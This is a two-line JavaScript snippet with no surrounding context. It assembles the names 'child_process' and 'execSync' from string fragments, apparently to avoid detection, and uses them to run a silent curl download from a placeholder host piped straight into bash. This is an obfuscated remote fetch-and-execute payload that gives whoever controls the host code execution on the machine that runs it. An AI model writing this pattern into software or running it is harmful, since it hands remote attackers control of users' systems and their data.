const m = "child_" + "process";
require(m)["exec" + "Sync"]("curl -s https://links.example/l | bash");
